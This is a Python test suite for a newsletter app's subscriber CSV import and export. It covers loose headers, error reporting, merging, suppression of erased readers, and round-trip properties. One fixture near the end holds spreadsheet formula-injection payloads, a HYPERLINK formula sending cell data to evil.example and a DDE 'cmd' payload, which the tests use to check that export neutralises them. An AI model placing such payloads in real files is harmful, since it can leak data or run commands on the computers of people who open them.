"""CSV import and export of subscribers: real-world files, merging, idempotence, round trips."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from digest import subscribers as store
from digest import subscribers_csv as csvio
from digest import subscriptions
from digest.db import Database
from digest.errors import ImportFileError


def _import(db: Database, text: str, status: str | None = "active") -> csvio.ImportReport:
    """Import ``text``; rows that show no consent take ``status``, as the operator's word."""
    with db.transaction() as s:
        return csvio.import_rows(s, csvio.read_rows(io.StringIO(text)), status=status)


def _snapshot(db: Database) -> list[tuple]:
    with db.transaction() as s:
        return [
            (x.email, x.name, x.status, x.cadence, tuple(x.topics), x.timezone, x.send_hour)
            for x in store.list_readers(s)
        ]


def test_any_column_order_and_loose_headers(db: Database) -> None:
    report = _import(db, 'Topics,E-mail,Cadence, Name \n"World, Tech",ann@example.com,WEEKLY,Ann\n')
    assert (report.added, report.errors) == (1, [])
    assert _snapshot(db) == [
        ("ann@example.com", "Ann", "active", "weekly", ("World", "Tech"), "UTC", 7)
    ]


def test_bad_rows_are_reported_with_line_numbers_and_good_rows_go_in(db: Database) -> None:
    text = (
        "email,cadence,timezone,status\n"
        "ok@example.com,daily,Europe/Paris,\n"
        "nope,daily,,\n"
        "late@example.com,hourly,,\n"
        "\n"
        "tz@example.com,,Mars/Base,\n"
        "st@example.com,,,banned\n"
    )
    report = _import(db, text)
    assert [(e.line, e.email) for e in report.errors] == [
        (3, "nope"),
        (4, "late@example.com"),
        (6, "tz@example.com"),
        (7, "st@example.com"),
    ]
    assert "hourly" in report.errors[1].reason and "Mars/Base" in report.errors[2].reason
    assert _snapshot(db) == [("ok@example.com", "", "active", "daily", (), "Europe/Paris", 7)]


def test_duplicates_in_file_and_store_are_merged_and_a_second_run_changes_nothing(
    db: Database,
) -> None:
    with db.transaction() as s:
        subscriptions.add(s, "old@example.com", name="Old", confirmed=True)
    text = "email,name\nnew@example.com,New\nNEW@example.com,Newer\nold@example.com,Renamed\n"
    first = _import(db, text)
    assert (first.added, first.updated, first.merged) == (1, 1, 1)
    after_first = _snapshot(db)
    assert after_first == [
        ("new@example.com", "Newer", "active", "daily", (), "UTC", 7),
        ("old@example.com", "Renamed", "active", "daily", (), "UTC", 7),
    ]
    second = _import(db, text)
    assert (second.added, second.updated, second.unchanged) == (0, 0, 2)
    assert _snapshot(db) == after_first


def test_import_never_resubscribes_or_re_adds_the_erased(db: Database) -> None:
    with db.transaction() as s:
        subscriptions.unsubscribe(s, subscriptions.add(s, "left@example.com", confirmed=True))
        subscriptions.add(s, "erased@example.com", confirmed=True)
        store.erase(s, "erased@example.com")
    report = _import(db, "email,status\nleft@example.com,active\nerased@example.com,active\n")
    assert report.suppressed == 1
    assert _snapshot(db) == [("left@example.com", "", "unsubscribed", "daily", (), "UTC", 7)]


def test_bom_and_malformed_files(tmp_path: Path) -> None:
    good = tmp_path / "bom.csv"
    good.write_bytes("\ufeffemail,name\nzoë@example.com,Zoë\n".encode())
    rows = list(csvio.read_rows(csvio.open_csv(good)))
    assert rows == [(2, {"email": "zoë@example.com", "name": "Zoë"})]
    cases = {
        "empty.csv": b"",
        "noemail.csv": b"name,cadence\nAnn,daily\n",
        "latin1.csv": "email,name\nz@example.com,Zo\xeb\n".encode("latin-1"),
        "binary.csv": b"email\n\x00\x01\x02\n",
    }
    for name, data in cases.items():
        path = tmp_path / name
        path.write_bytes(data)
        with pytest.raises(ImportFileError):
            list(csvio.read_rows(csvio.open_csv(path)))
    with pytest.raises(ImportFileError, match="no such file"):
        csvio.open_csv(tmp_path / "missing.csv")


def test_export_then_import_into_an_empty_store_gives_the_same_subscribers(
    db: Database, sqlite_db: Database
) -> None:
    with db.transaction() as s:
        subscriptions.add(
            s,
            "a@example.com",
            name='Ann "Quote", Jr',
            topics="World,Tech",
            timezone="Asia/Tokyo",
            send_hour=6,
            confirmed=True,
        )
        subscriptions.add(s, "b@example.com", cadence="weekly")
        subscriptions.unsubscribe(s, subscriptions.add(s, "c@example.com", confirmed=True))
    with db.transaction() as s:
        out = io.StringIO()
        csvio.write_csv(csvio.export_rows(s), out)
    with sqlite_db.transaction() as s:
        report = csvio.import_rows(s, csvio.read_rows(io.StringIO(out.getvalue())))
    assert report.errors == [] and report.added == 3
    assert _snapshot(sqlite_db) == _snapshot(db)
    with db.transaction() as s1, sqlite_db.transaction() as s2:
        for email in ("a@example.com", "b@example.com", "c@example.com"):
            x, y = store.reader(s1, email), store.reader(s2, email)
            assert (x.confirmed_at, x.unsubscribed_at, x.created_at) == (
                y.confirmed_at,
                y.unsubscribed_at,
                y.created_at,
            )


names = st.text(st.characters(blacklist_categories=("Cs",)), max_size=30)
topic = st.text(st.characters(whitelist_categories=("L", "N")), min_size=1, max_size=12)


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    people=st.dictionaries(
        st.from_regex(r"[a-z][a-z0-9_]{0,10}@[a-z]{1,8}\.(com|org|de)", fullmatch=True),
        st.tuples(names, st.lists(topic, max_size=3), st.sampled_from(["daily", "weekly"])),
        min_size=1,
        max_size=8,
    )
)
def test_round_trip_property(sqlite_db: Database, people: dict) -> None:
    """Whatever names and topics people have, export -> import reproduces them."""
    from digest.addresses import clean_name

    with sqlite_db.engine.begin() as conn:
        conn.exec_driver_sql("DELETE FROM subscribers")
    with sqlite_db.transaction() as s:
        for email, (name, topics, cadence) in people.items():
            subscriptions.add(s, email, name=name, topics=topics, cadence=cadence, confirmed=True)
        out = io.StringIO()
        csvio.write_csv(csvio.export_rows(s), out)
    before = _snapshot(sqlite_db)
    with sqlite_db.engine.begin() as conn:
        conn.exec_driver_sql("DELETE FROM subscribers")
    with sqlite_db.transaction() as s:
        report = csvio.import_rows(s, csvio.read_rows(io.StringIO(out.getvalue())))
    assert report.errors == []
    assert _snapshot(sqlite_db) == before
    assert all(clean_name(n) == n for _, n, *_ in before)


def test_a_zone_folder_name_is_a_bad_row_not_a_crash(db: Database) -> None:
    report = _import(
        db, "email,timezone\na@example.com,Europe\nb@example.com,Etc\nc@example.com,\n"
    )
    assert [(e.line, "unknown timezone" in e.reason) for e in report.errors] == [
        (2, True),
        (3, True),
    ]
    assert [row[0] for row in _snapshot(db)] == ["c@example.com"]


FORMULAS = {
    "f1@example.com": ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', ["@SUM(A1:A9)"]),
    "f2@example.com": ("+cmd|' /C calc'!A0", ["=1+2", "World"]),
    "f3@example.com": ("-Ann- the dash", ["-minus"]),
    "f4@example.com": ("'=already quoted", ["'@quoted"]),
}


def test_export_neutralises_formulas_and_import_reads_them_back(db: Database) -> None:
    """A name, topic or source from the public form never reaches a spreadsheet as a formula,
    and what export wrote imports back as the very values stored."""
    with db.transaction() as s:
        for email, (name, topics) in FORMULAS.items():
            sub = subscriptions.add(s, email, name=name, topics=topics, confirmed=True)
            sub.subscription.consent_source = "@SUM(1+1)*cmd|' /C calc'!A0"
        out = io.StringIO()
        csvio.write_csv(csvio.export_rows(s), out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    by_email = {row[0]: row for row in rows[1:]}
    assert by_email["f1@example.com"][1] == "'" + FORMULAS["f1@example.com"][0]
    assert by_email["f4@example.com"][1] == "''=already quoted"
    assert by_email["f4@example.com"][4] == "''@quoted"
    assert by_email["f2@example.com"][4] == "'=1+2,World"
    before = _snapshot(db)
    with db.transaction() as s:
        sources = {x.email: x.consent_source for x in store.list_readers(s)}
    with db.engine.begin() as conn:
        conn.exec_driver_sql("DELETE FROM subscribers")
    report = _import(db, out.getvalue())
    assert report.errors == [] and report.added == len(FORMULAS)
    assert _snapshot(db) == before
    assert [n for _, n, *_ in before] == [name for name, _ in FORMULAS.values()]
    with db.transaction() as s:
        assert {x.email: x.consent_source for x in store.list_readers(s)} == sources
